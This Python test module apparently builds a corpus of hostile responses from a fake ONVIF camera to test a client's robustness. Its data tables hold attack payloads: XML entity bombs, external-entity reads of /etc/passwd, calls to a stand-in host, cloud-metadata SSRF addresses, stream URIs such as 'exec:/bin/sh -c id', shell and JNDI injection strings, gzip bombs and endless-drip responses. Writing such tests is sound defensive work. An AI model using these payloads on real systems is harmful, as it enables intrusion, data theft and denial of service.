"""A corpus of hostile answers to ONVIF questions: every class of our threat model, our own bytes.

A case replaces the answer to one operation of an otherwise honest camera. ``WHERE`` in a text
becomes the address of a stranger who listens and waits to be told a secret.
"""

import asyncio
import random
from collections.abc import AsyncIterator, Callable, Iterator, Mapping
from dataclasses import dataclass

from tests.fakes.hostile_camera import fault, http, soap

Bytes = bytes | Callable[[], AsyncIterator[bytes]]
"""A whole HTTP response, or what drips."""
Change = Callable[[bytes], Bytes]
"""From the honest response to the hostile one."""

FIRST, AFTER, TOLD = "GetDeviceInformation", "GetProfiles", "PullMessages"
"""The first question, one that is asked with a login, and what a subscription tells."""


@dataclass(frozen=True, slots=True)
class Case:
    """One hostile answer, in place of that to ``operation``."""

    name: str
    operation: str
    change: Change
    early: bool = False
    """Whether it comes before any login: in place of a challenge as well."""
    flaps: bool = False
    """Whether every other answer is honest."""


def always(answer: Bytes) -> Change:
    """Return a change that does not care for the honest answer."""
    return lambda _honest: answer


def body(honest: bytes) -> bytes:
    """Return the body of a response."""
    return honest.partition(b"\r\n\r\n")[2]


def altered(old: str, new: str) -> Change:
    """Return a change of every occurrence of one text in the honest body."""
    return lambda honest: http(body(honest).replace(old.encode(), new.encode()))


def between(tag: str, new: str) -> Change:
    """Return a change of what every element of this tag holds."""

    def change(honest: bytes) -> bytes:
        pieces = body(honest).split(f"<{tag}>".encode())
        rest = [new.encode() + piece[piece.index(b"</") :] for piece in pieces[1:]]
        return http(f"<{tag}>".encode().join([pieces[0], *rest]))

    return change


def attribute(name: str, new: str) -> Change:
    """Return a change of every attribute of this name."""

    def change(honest: bytes) -> bytes:
        pieces = body(honest).split(f' {name}="'.encode())
        rest = [new.encode() + piece[piece.index(b'"') :] for piece in pieces[1:]]
        return http(f' {name}="'.encode().join([pieces[0], *rest]))

    return change


# -- bodies ------------------------------------------------------------------------------------


def _lol() -> bytes:
    entities = b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    return b'<!DOCTYPE b [<!ENTITY a0 "lol">' + entities + b"]><b>&a9;</b>"


BODIES: Mapping[str, bytes] = {
    "entity bomb": _lol(),
    "quadratic entity": b'<!DOCTYPE b [<!ENTITY a "%s">]><b>%s</b>' % (b"x" * 9000, b"&a;" * 9000),
    "external entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "external entity elsewhere": b'<!DOCTYPE a [<!ENTITY x SYSTEM "http://WHERE/x">]><a>&x;</a>',
    "parameter entity": b'<!DOCTYPE a [<!ENTITY % p SYSTEM "http://WHERE/p"> %p;]><a/>',
    "document type alone": b"<!DOCTYPE a><a/>",
    "document type elsewhere": b'<!DOCTYPE a SYSTEM "http://WHERE/a.dtd"><a/>',
    "xinclude": b'<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="http://WHERE/"/></a>',
    "schema location": b'<a xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    b' xsi:schemaLocation="urn:a http://WHERE/a.xsd"/>',
    "style sheet": b'<?xml-stylesheet href="http://WHERE/a.xsl" type="text/xsl"?><a/>',
    "deep": b"<a>" * 100_000 + b"</a>" * 100_000,
    "deep and open": b"<a>" * 300_000,
    "long text": b"<a>" + b"x" * 1_000_000 + b"</a>",
    "long attribute": b'<a b="' + b"x" * 1_000_000 + b'"/>',
    "long name": b"<" + b"a" * 1_000_000 + b"/>",
    "many elements": b"<a>" + b"<b/>" * 250_000 + b"</a>",
    "many attributes": b"<a " + b" ".join(b'a%d=""' % n for n in range(60_000)) + b"/>",
    "many namespaces": b"<a "
    + b" ".join(b'xmlns:a%d="u:%d"' % (n, n) for n in range(9000))
    + b"/>",
    "namespaces, nested": b"".join(b'<a xmlns:n%d="u">' % n for n in range(40)) + b"</a>" * 40,
    "many comments": b"<a>" + b"<!-- -->" * 120_000 + b"</a>",
    "many instructions": b"<a>" + b"<?x y?>" * 140_000 + b"</a>",
    "long cdata": b"<a><![CDATA[" + b"x" * 1_000_000 + b"]]></a>",
    "many references": b"<a>" + b"&#65;" * 200_000 + b"</a>",
    "truncated": b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"><s:Bo',
    "garbage": bytes(range(256)) * 20,
    "empty": b"",
    "blank": b" \r\n" * 1000,
    "html": b"<html><body><form>login</form>",
    "json": b'{"error": "none"}',
    "utf-16": "<a/>".encode("utf-16"),
    "utf-7": b'<?xml version="1.0" encoding="UTF-7"?><a/>',
    "latin-1": '<?xml version="1.0" encoding="latin-1"?><a>\u00fc</a>'.encode("latin-1"),
    "no utf-8": b"<a>\xff\xfe\xc0\xaf</a>",
    "lone surrogate": b"<a>\xed\xa0\x80</a>",
    "nul": b"<a>\x00</a>",
    "nul reference": b"<a>&#0;</a>",
    "undeclared prefix": b"<x:a/>",
    "two roots": b"<a/><b/>",
    "xml 1.1": b'<?xml version="1.1"?><a>&#1;</a>',
    "another namespace": b'<s:Envelope xmlns:s="urn:other"><s:Body><s:a/></s:Body></s:Envelope>',
    "no body": b'<s:Envelope xmlns:s="http://www.w3.org/2003/05/soap-envelope"/>',
}

ODD: Mapping[str, bytes] = {
    "another answer": soap("<tds:SystemRebootResponse/>"),
    "unknown type": soap(
        '<trt:GetProfilesResponse xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">'
        '<trt:Profiles xsi:type="tt:Nothing" token="a"/></trt:GetProfilesResponse>'
    ),
    "fault without end": fault("s:Sender", "ter:" + "x" * 60_000),
    "fault with controls": fault("s:Sender", "ter:\u202eA\u0085B\x7f"),
    "fault in success": fault("s:Sender", "ter:NotAuthorized", status=200),
}

# -- HTTP --------------------------------------------------------------------------------------


async def _drip(first: bytes, then: bytes, every_s: float) -> AsyncIterator[bytes]:
    yield first
    while True:
        await asyncio.sleep(every_s)
        yield then


def dripping(first: bytes, then: bytes = b"x", every_s: float = 0.3) -> Bytes:
    """Return an answer that never ends, a byte at a time."""
    return lambda: _drip(first, then, every_s)


def flowing(first: bytes, then: bytes) -> Bytes:
    """Return an answer that never ends, as fast as it is taken."""
    return lambda: _drip(first, then, 0.0)


_OK = b"HTTP/1.1 200 OK\r\n"
_BOMB = b"\x1f\x8b\x08\x00" + b"\x00" * 6 + b"\xed\xc1\x01\x01" * 200_000
WIRES: Mapping[str, Bytes] = {
    "silent": dripping(b"", b"", 60.0),
    "header drips": dripping(_OK + b"X: "),
    "body drips": dripping(_OK + b"Content-Length: 9999\r\n\r\n<a>"),
    "chunks drip": dripping(_OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\na\r\n"),
    "endless chunks": flowing(
        _OK + b"Transfer-Encoding: chunked\r\n\r\n", b"10000\r\n" + b"<" * 65536 + b"\r\n"
    ),
    "endless body": flowing(_OK + b"\r\n", b"<a>" * 20_000),
    "endless headers": flowing(_OK, b"X: y\r\n" * 5000),
    "endless continues": flowing(b"", b"HTTP/1.1 100 Continue\r\n\r\n" * 500),
    "five megabytes": http(b" " * 5_000_000),
    "gzip bomb": http(_BOMB, headers=["Content-Encoding: gzip"]),
    "deflate": http(b"\x78\x9c" + b"\xed\xc1" * 9000, headers=["Content-Encoding: deflate"]),
    "gzip that is none": http(b"<a/>", headers=["Content-Encoding: gzip"]),
    "length too long": _OK + b"Content-Length: 99\r\nConnection: close\r\n\r\n<a/>",
    "length too short": _OK + b"Content-Length: 3\r\n\r\n<a><b/></a>",
    "length negative": _OK + b"Content-Length: -5\r\n\r\n",
    "length no number": _OK + b"Content-Length: many\r\n\r\n",
    "length beyond all": _OK + b"Content-Length: " + b"9" * 400 + b"\r\n\r\n",
    "length twice": _OK + b"Content-Length: 3\r\nContent-Length: 9\r\n\r\n<a/>",
    "chunk of no size": _OK + b"Transfer-Encoding: chunked\r\n\r\nzz\r\n",
    "chunk beyond all": _OK + b"Transfer-Encoding: chunked\r\n\r\n" + b"f" * 64 + b"\r\n",
    "hung up": b"",
    "long header": http(b"", headers=["X: " + "y" * 1_000_000]),
    "countless headers": http(b"", headers=[f"X-{n}: 1" for n in range(20_000)]),
    "cookies": http(b"<a/>", headers=[f"Set-Cookie: c{n}={'x' * 99}" for n in range(60)]),
    "multipart": http(
        b"--b\r\nContent-Type: application/xop+xml\r\n\r\n<a/>\r\n--b--",
        headers=["Content-Type: multipart/related; boundary=b"],
    ),
    "bogus charset": http(b"<a/>", headers=["Content-Type: text/xml; charset=martian"]),
    "not http": b"SSH-2.0-OpenSSH\r\n\r\n",
    "http 0.9": b"<a/>\r\n\r\n",
    "status 0": b"HTTP/1.1 000 No\r\nContent-Length: 0\r\n\r\n",
    "status 999": http(b"", 999),
    "no content": b"HTTP/1.1 204 No Content\r\n\r\n",
    "other protocol": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: tls\r\n\r\n",
    "header with nul": http(b"", headers=["X: a\x00b"]),
    "folded header": http(b"", headers=["X: a\r\n b"]),
}

REDIRECTS: Mapping[str, bytes] = {
    **{
        f"redirect {code}": http(b"", code, ["Location: http://WHERE/onvif/device_service"])
        for code in (300, 301, 302, 303, 305, 307, 308)
    },
    "redirect to itself": http(b"", 307, ["Location: /onvif/device_service"]),
    "redirect to a file": http(b"", 302, ["Location: file:///etc/passwd"]),
    "redirect with a login": http(b"", 308, ["Location: http://a:b@WHERE/"]),
    "refresh": http(b"<a/>", headers=["Refresh: 0; url=http://WHERE/"]),
}


def _asks(*challenges: str) -> bytes:
    return fault(
        "s:Sender",
        "ter:NotAuthorized",
        status=401,
        headers=[f"WWW-Authenticate: {each}" for each in challenges],
    )


LOGINS: Mapping[str, bytes] = {
    "basic only": _asks('Basic realm="r"'),
    "basic first": _asks('Basic realm="r"', 'Digest realm="r", nonce="n", algorithm=SHA-512'),
    "bearer": _asks("Bearer"),
    "ntlm": _asks("NTLM", "Negotiate"),
    "unknown digest": _asks('Digest realm="r", nonce="n", algorithm=ROT13'),
    "huge nonce": _asks(f'Digest realm="r", nonce="{"n" * 6000}"'),
    "no nonce": _asks('Digest realm="r"'),
    "domain elsewhere": _asks('Digest realm="r", nonce="n", domain="http://WHERE/", qop="auth"'),
    "the same for ever": _asks('Digest realm="r", nonce="n", qop="auth"'),
    "stale for ever": _asks('Digest realm="r", nonce="n", qop="auth", stale=true'),
    "integrity only": _asks('Digest realm="r", nonce="n", qop="auth-int"'),
    "quotes in realm": _asks('Digest realm="a\\"b\\\\", nonce="n", qop="auth"'),
    "countless challenges": _asks(*[f'Digest realm="{n}", nonce="{n}"' for n in range(60)]),
    "401 and no challenge": http(b"", 401),
    "403": http(b"", 403),
    "407": http(b"", 407, ['Proxy-Authenticate: Basic realm="r"']),
    "locked": http(b"the user is locked", 401),
}

# -- what is said ------------------------------------------------------------------------------

ADDRESSES: Mapping[str, str] = {
    "elsewhere": "http://WHERE/onvif/x",
    "with a login": "http://HERE@WHERE/onvif/x",
    "internet": "http://192.0.2.66/onvif/x",
    "metadata": "http://169.254.169.254/latest/meta-data",
    "mapped": "http://[::ffff:127.0.0.1]:1/x",
    "decimal": "http://2130706433/x",
    "octal": "http://0177.0.0.1/x",
    "file": "file:///etc/passwd",
    "gopher": "gopher://WHERE/x",
    "https": "https://WHERE/x",
    "no host": "http:///x",
    "port twice": "http://WHERE:80:80/x",
    "line break": "http://WHERE/&#13;&#10;X: y",
    "endless": "http://WHERE/" + "x" * 60_000,
    "no address": "%00\u202e",
}
STREAMS: Mapping[str, str] = {
    "elsewhere": "rtsp://WHERE/main",
    "with a login": "rtsp://admin:admin@WHERE/main",
    "file": "file:///etc/passwd",
    "exec": "exec:/bin/sh -c id",
    "concat": "concat:/etc/passwd|/etc/hosts",
    "pipe": "pipe:0",
    "shell": "rtsp://HERE/$(id);`id`|id",
    "line break": "rtsp://HERE/a&#10;b",
    "option": "-i /etc/passwd",
    "metadata": "rtsp://169.254.169.254/",
    "port": "rtsp://HERE:99999/",
    "scripts": "javascript:alert(1)",
}
NAMES: Mapping[str, str] = {
    "markup": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "right to left": "\u202e\u2066abc",
    "combining": "a" + "\u0301" * 5000,
    "escape": "\u001b[2J\u009b31m".replace("\u001b", "&#27;"),
    "format": "%s%n{0.__class__}${jndi:ldap://WHERE/a}",
    "path": "../../../../etc/passwd",
    "new line": "a&#10;level=error msg=forged",
    "long": "n" * 60_000,
    "blank": "\u00a0\u2003",
    "option": "--help",
}
NUMBERS: Mapping[str, str] = {
    "nan": "NaN",
    "infinite": "INF",
    "minus infinite": "-INF",
    "huge": "1e308",
    "text": "wide",
    "nothing": "",
    "long": "9" * 5000,
    "negative": "-1",
    "zero": "0",
}
CLOCKS: Mapping[str, tuple[str, str]] = {
    "year 1": ("tt:Year", "1"),
    "year 9999": ("tt:Year", "9999"),
    "year beyond": ("tt:Year", "99999999999"),
    "no year": ("tt:Year", ""),
    "month 13": ("tt:Month", "13"),
    "day 31": ("tt:Day", "99"),
    "leap second": ("tt:Second", "60"),
    "second 61": ("tt:Second", "-61"),
    "hour 25": ("tt:Hour", "25"),
    "text": ("tt:Minute", "\u0661"),
}


def _swapped(honest: bytes) -> bytes:
    text = body(honest)
    return http(text.replace(b"<tt:Min>-1</tt:Min><tt:Max>1<", b"<tt:Min>1</tt:Min><tt:Max>-1<"))


def _many(tag: str, count: int) -> Change:
    """Return a change that repeats the first element of this tag."""

    def change(honest: bytes) -> bytes:
        text = body(honest)
        begin, close = text.index(f"<{tag}".encode()), f"</{tag}>".encode()
        end = text.index(close) + len(close)
        return http(text[:end] + text[begin:end] * count + text[end:])

    return change


def _none(tag: str) -> Change:
    def change(honest: bytes) -> bytes:
        text = body(honest)
        begin, close = text.index(f"<{tag}".encode()), f"</{tag}>".encode()
        return http(text[:begin] + text[text.rindex(close) + len(close) :])

    return change


def _message(count: int) -> Change:
    told = (
        "<wsnt:NotificationMessage><wsnt:Topic>tns1:VideoSource/MotionAlarm</wsnt:Topic>"
        '<wsnt:Message><tt:Message UtcTime="2026-03-02T02:00:00Z"><tt:Source/><tt:Data/>'
        "</tt:Message></wsnt:Message></wsnt:NotificationMessage>"
    )
    opened = '<tev:PullMessagesResponse xmlns:tev="http://www.onvif.org/ver10/events/wsdl"'
    opened += ' xmlns:wsnt="http://docs.oasis-open.org/wsn/b-2">'
    return always(soap(f"{opened}{told * count}</tev:PullMessagesResponse>"))


def _fuzzed(seed: int) -> Change:
    def change(honest: bytes) -> bytes:
        rng, text = random.Random(seed), bytearray(body(honest))
        for _ in range(rng.randint(1, 30)):
            place = rng.randrange(len(text))
            match rng.randrange(3):
                case 0:
                    text[place] = rng.randrange(256)
                case 1:
                    del text[place : place + rng.randint(1, 40)]
                case _:
                    text[place:place] = rng.randbytes(rng.randint(1, 40))
        return http(bytes(text))

    return change


def cases() -> Iterator[Case]:
    """Yield every case once."""
    for name, bad in BODIES.items():
        for operation in (FIRST, AFTER, TOLD):
            yield Case(f"{name} to {operation}", operation, always(http(bad)), operation == FIRST)
    for name, answer in ODD.items():
        for operation in (FIRST, AFTER, TOLD):
            yield Case(f"{name} to {operation}", operation, always(answer), operation == FIRST)
    for name, wire in WIRES.items():
        for operation in (FIRST, AFTER):
            yield Case(f"{name} to {operation}", operation, always(wire), operation == FIRST)
    for name, answer in (*REDIRECTS.items(), *LOGINS.items()):
        for operation in (FIRST, "GotoPreset"):
            yield Case(f"{name} to {operation}", operation, always(answer), operation == FIRST)
    yield from _said()
    yield Case("flapping", "GetStatus", always(http(b"<")), flaps=True)
    for seed in range(24):
        operation = ("GetServices", AFTER, "GetNodes", "GetPresets", "GetStatus")[seed % 5]
        yield Case(f"fuzz {seed} of {operation}", operation, _fuzzed(seed))


def _said() -> Iterator[Case]:
    for name, address in ADDRESSES.items():
        yield Case(f"service {name}", "GetServices", between("tds:XAddr", address))
        pull = between("wsa:Address", address)
        yield Case(f"pull point {name}", "CreatePullPointSubscription", pull)
    for name, uri in STREAMS.items():
        yield Case(f"stream {name}", "GetStreamUri", between("tt:Uri", uri))
        yield Case(f"snapshot {name}", "GetSnapshotUri", between("tt:Uri", uri))
    for name, text in NAMES.items():
        for operation, tag in (
            (FIRST, "tds:Manufacturer"),
            (FIRST, "tds:SerialNumber"),
            (AFTER, "tt:Name"),
            ("GetPresets", "tt:Name"),
        ):
            yield Case(f"{tag} {name} in {operation}", operation, between(tag, text))
    for name, number in NUMBERS.items():
        for operation, tag in (
            ("GetConfigurationOptions", "tt:Min"),
            ("GetNodes", "tt:Max"),
            (AFTER, "tt:Width"),
            (AFTER, "tt:FrameRateLimit"),
        ):
            yield Case(f"{tag} {name} in {operation}", operation, between(tag, number))
        yield Case(f"position {name}", "GetStatus", attribute("x", number))
        yield Case(f"preset at {name}", "GetPresets", attribute("x", number))
    yield Case("ranges swapped", "GetConfigurationOptions", _swapped)
    for name, (tag, text) in CLOCKS.items():
        yield Case(f"clock {name}", "GetSystemDateAndTime", between(tag, text))
    yield Case("profiles, 400", AFTER, _many("trt:Profiles", 400))
    yield Case("profiles, 20000", AFTER, _many("trt:Profiles", 20_000))
    yield Case("profiles, none", AFTER, _none("trt:Profiles"))
    yield Case("presets, 2000", "GetPresets", _many("tptz:Preset", 2000))
    yield Case("services, 3000", "GetServices", _many("tds:Service", 3000))
    yield Case("nodes, 400", "GetNodes", _many("tptz:PTZNode", 400))
    for count in (500, 3000):
        yield Case(f"messages, {count}", TOLD, _message(count))
